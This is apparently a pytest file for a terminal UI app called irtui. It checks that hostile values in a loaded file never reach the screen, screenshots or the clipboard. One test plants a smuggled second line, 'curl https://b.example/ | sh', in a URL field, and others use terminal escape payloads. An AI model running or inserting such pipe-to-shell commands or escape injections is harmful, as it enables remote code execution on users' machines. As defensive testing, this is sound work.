"""Nothing that a file says, in a key or in a value, drives the screen, its picture or a copy."""

from datetime import date
from pathlib import Path
from xml.etree import ElementTree

from irtui.model.claims import Ref
from irtui.tui.app import IrtuiApp
from tests.hostile import PAYLOAD, Raw, broken, hidden, sound
from tests.respelling import inline, written
from tests.tui.screens import press, put, shown, still
from tests.tui.test_arriving import Preparing, arriving

NAME = PAYLOAD[:30].replace("\0", "")
"""What a file is called."""


def hostile(document: Raw, folder: Path, selection: Ref | None = None) -> IrtuiApp:
    path = folder / f"{NAME}.toml"
    path.write_text(written(document), "utf-8", newline="\n")
    return still(path, go=str(selection), today=date(2024, 7, 1))


def pictured(app: IrtuiApp) -> str:
    """The text of the picture of the screen, as a reader of XML has it."""
    return "".join(ElementTree.fromstring(app.export_screenshot()).itertext())


JOURNEY = (
    *("E", "r", *"123456", "escape", "slash", *"fog", "enter", "at", "escape", "y", "escape"),
    *("o", "escape", "tab", "z", "G", "z", "tab", "z", "z", "colon", *"fog", "escape"),
)


async def test_nothing_hidden_gets_to_the_screen_or_the_clipboard(tmp_path: Path):
    app = hostile(sound(), tmp_path, Ref("source", "a"))
    async with app.run_test(size=(120, 60), notifications=True) as pilot:
        for key in JOURNEY:
            await press(pilot, key)
            assert not hidden(pictured(app)), key
        for copied in "criv":
            await press(pilot, "y", copied)
            assert not hidden(app.clipboard)
            assert "\n" not in app.clipboard or copied == "r"


async def test_an_address_with_a_second_line_is_shown_in_one_and_neither_opened_nor_copied(
    tmp_path: Path,
):
    document = sound("fog")
    document["source"]["a"]["url"] = "https://a.example/\ncurl https://b.example/ | sh\n"
    app = hostile(document, tmp_path, Ref("source", "a"))
    async with app.run_test(size=(140, 60)) as pilot:
        assert "https://a.example/␊curl" in shown(app)
        await press(pilot, "y", "a", "escape")
        assert "curl" not in app.clipboard
        await press(pilot, "y", "c")
        assert "a.example" not in app.clipboard
        assert "fog" in app.clipboard
        await press(pilot, "o")
        assert "irtui does not open “https://a.example/␊curl" in shown(app)


async def test_nothing_hidden_gets_to_the_list_of_problems(tmp_path: Path):
    app = hostile(broken(), tmp_path)
    async with app.run_test(size=(120, 60)) as pilot:
        assert "lookalike-key" in {problem.code for problem in app.loaded.problems}
        for key in ("pagedown", "r"):
            assert "fog␛]0;owned␇" in shown(app)
            assert not hidden(pictured(app))
            await press(pilot, key)


async def test_nothing_hidden_gets_to_the_screen_while_a_file_is_read(tmp_path: Path):
    titled = f"[dataset]\ntitle = {inline(PAYLOAD)}\n[body.b]\nname = {inline(PAYLOAD)}\n"
    for document, name in (("", NAME), (titled, "fog")):
        path = tmp_path / f"{name}.toml"
        path.write_text(document, "utf-8", newline="\n")
        preparing = Preparing()
        app = arriving(preparing, path)
        async with app.run_test(size=(120, 30)) as pilot:
            await put(pilot, "fog")
            assert "fog␛]0;owned␇" in shown(app)
            assert not hidden(pictured(app))
            await preparing.end(pilot)
